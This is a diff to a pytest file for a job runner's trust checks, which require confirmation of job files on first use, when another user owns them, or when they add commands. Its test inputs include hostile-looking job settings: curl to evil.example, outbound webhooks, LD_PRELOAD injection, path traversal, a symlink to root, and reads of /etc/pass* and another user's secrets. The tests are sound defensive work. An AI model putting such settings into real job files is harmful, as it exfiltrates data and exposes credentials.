@@ -1,4 +1,4 @@
-"""A job file is confirmed if it is not the user's own, or if its command has changed."""
+"""A job file is confirmed on its first use, if it is another's, and if what it runs has changed."""
 
 from __future__ import annotations
 
@@ -11,6 +11,7 @@ import pytest
 
 from rocsteady.run.job.job_file import read_job
 from rocsteady.run.job.trust import Doubt, changes, doubts, trust
+from rocsteady.run.job.values import Job
 from rocsteady.store.location import find_place
 from rocsteady.store.machine_history import Memory
 
@@ -29,9 +30,10 @@ def job_file(tmp_path: Path, mode: int = 0o644) -> Path:
     return path
 
 
-def test_only_a_changed_command_is_confirmed(tmp_path: Path, memory: Memory) -> None:
+def test_the_first_use_and_a_changed_command_are_confirmed(tmp_path: Path, memory: Memory) -> None:
     path = job_file(tmp_path)
-    assert doubts(read_job(path), memory) == ()
+    assert doubts(read_job(path), memory) == (Doubt.NEW,)
+    assert changes(read_job(path), memory) == ("+ command: python train.py",)
 
     trust(read_job(path), memory)
     memory.flush()
@@ -53,12 +55,22 @@ def test_only_a_changed_command_is_confirmed(tmp_path: Path, memory: Memory) -> 
         "[resume]\ncheckpoints = ['*.pt']\nenvironment = { LD_PRELOAD = '{checkpoint}' }",
         "[variants.small]\narguments = ['--evil']",
         "name = 'x'\n[[stages]]\nname = 'one'\narguments = ['--evil']",
+        "[notify]\ncommand = ['curl', 'evil.example']",
+        "[notify]\nwebhook = 'https://evil.example/x'",
+        "[notify]\nmail = 'evil@evil.example'",
+        "[metrics]\notlp = 'https://evil.example'",
+        "[resume]\ncheckpoints = ['../other/*.pt']",
+        "[resume]\ncheckpoints = ['linked/*.pt']",
+        "[done_when]\nfiles = [{ path = '/etc/pass*' }]",
+        "[done_when]\nfiles = [{ path = '~/x.pt' }]",
+        "[done_when.metrics]\n'/home/other/secrets.json:key' = '>=0'",
     ],
 )
-def test_what_is_added_to_the_command_is_part_of_it(
+def test_what_it_adds_starts_sends_to_or_reaches_outside_is_confirmed(
     tmp_path: Path, memory: Memory, more: str
 ) -> None:
     path = job_file(tmp_path)
+    (tmp_path / "linked").symlink_to("/")
     trust(read_job(path), memory)
     memory.flush()
 
@@ -81,9 +93,9 @@ def test_a_memory_without_commands_is_read(tmp_path: Path, memory: Memory) -> No
 @pytest.mark.skipif(sys.platform == "win32", reason="owners and modes")
 def test_a_job_file_that_others_own_or_write_is_confirmed(tmp_path: Path, memory: Memory) -> None:
     path = job_file(tmp_path, mode=0o664)
-    assert doubts(read_job(path), memory) == (Doubt.OPEN,)
+    assert doubts(read_job(path), memory) == (Doubt.OPEN, Doubt.NEW)
     theirs = msgspec.structs.replace(read_job(path), owner=4711, mode=0o644)
-    assert doubts(theirs, memory) == (Doubt.ANOTHERS,)
+    assert doubts(theirs, memory) == (Doubt.ANOTHERS, Doubt.NEW)
 
     trust(read_job(path), memory)
     memory.flush()
@@ -94,10 +106,22 @@ def test_a_job_file_that_others_own_or_write_is_confirmed(tmp_path: Path, memory
     assert doubts(read_job(path), memory) == (Doubt.OPEN,)
 
 
-def test_without_a_memory_the_users_own_file_is_not_asked_about(tmp_path: Path) -> None:
+def test_without_a_memory_every_use_is_the_first(tmp_path: Path) -> None:
     place = find_place(tmp_path, state=tmp_path / "state")
     nothing = Memory(msgspec.structs.replace(place, memory=None, memory_writable=False))
     file = read_job(job_file(tmp_path))
     trust(file, nothing)
 
-    assert doubts(file, nothing) == ()
+    assert doubts(file, nothing) == (Doubt.NEW,)
+
+
+def test_beside_a_typed_command_only_what_the_file_adds_is_confirmed(
+    tmp_path: Path, memory: Memory
+) -> None:
+    path = job_file(tmp_path)
+    typed = Job(command=("python", "train.py"))
+    assert doubts(read_job(path), memory, typed) == ()
+
+    path.write_text(path.read_text() + "[notify]\ncommand = ['./told.sh']")
+    typed = msgspec.structs.replace(read_job(path).job, command=("python", "train.py"))
+    assert doubts(read_job(path), memory, typed) == (Doubt.NEW,)
